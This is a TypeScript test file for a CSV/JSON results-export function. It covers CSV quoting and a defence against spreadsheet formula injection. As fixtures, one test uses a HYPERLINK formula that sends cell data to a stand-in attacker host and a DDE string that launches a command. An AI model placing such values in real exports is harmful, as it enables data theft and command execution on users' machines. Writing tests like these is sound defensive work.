import { describe, expect, it } from 'vitest'
import { resultRecords, resultsCsv, resultsJson } from './results-export'
import { imageRow } from './testing/rows'

const rows = [
  imageRow(1, {}, { status: 'imported', result: { mediaId: 'entry-1', record: {} } }),
  imageRow(
    2,
    {},
    {
      status: 'rejected',
      relativePath: 'Reportage/with, comma "quoted".jpg',
      issues: [{ field: 'metadata.rating', message: 'must be string', source: 'server' }],
    },
  ),
  imageRow(3, {}, { status: 'skipped' }),
]

describe('results export', () => {
  it('lists path, entry id, media id, status and errors of every file that is an entry', () => {
    expect(resultRecords(rows)).toEqual([
      { path: 'Reportage/IMG_0001.jpg', entryId: 'entry-1', mediaId: 'entry-1', status: 'imported', errors: [] },
      {
        path: 'Reportage/with, comma "quoted".jpg',
        entryId: 'entry-2',
        mediaId: null,
        status: 'rejected',
        errors: ['metadata.rating: must be string'],
      },
    ])
  })

  it('writes CSV Excel opens as UTF-8, quoting what needs it, and JSON', () => {
    const csv = resultsCsv(resultRecords(rows))
    expect(csv).toBe(
      '\uFEFFpath,entryId,mediaId,status,errors\r\n' +
        'Reportage/IMG_0001.jpg,entry-1,entry-1,imported,\r\n' +
        '"Reportage/with, comma ""quoted"".jpg",entry-2,,rejected,metadata.rating: must be string\r\n',
    )
    expect(JSON.parse(resultsJson(resultRecords(rows)))).toHaveLength(2)
  })

  it('writes file names and messages that start like a formula as text, apostrophe first', () => {
    const risky = [
      imageRow(
        4,
        {},
        {
          status: 'rejected',
          relativePath: '=HYPERLINK("http://evil.example/?"&A1,"Open").jpg',
          importFailure: { reason: '@SUM(1+1)*cmd|" /C calc"!A0', retryable: false },
        },
      ),
      imageRow(5, {}, { status: 'imported', relativePath: '-5', result: { mediaId: 'entry-5', record: {} } }),
    ]
    expect(resultsCsv(resultRecords(risky)).split('\r\n').slice(1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Open"").jpg",entry-4,,rejected,"'@SUM(1+1)*cmd|"" /C calc""!A0"`,
      // A plain number stays a number.
      '-5,entry-5,entry-5,imported,',
      '',
    ])
  })
})
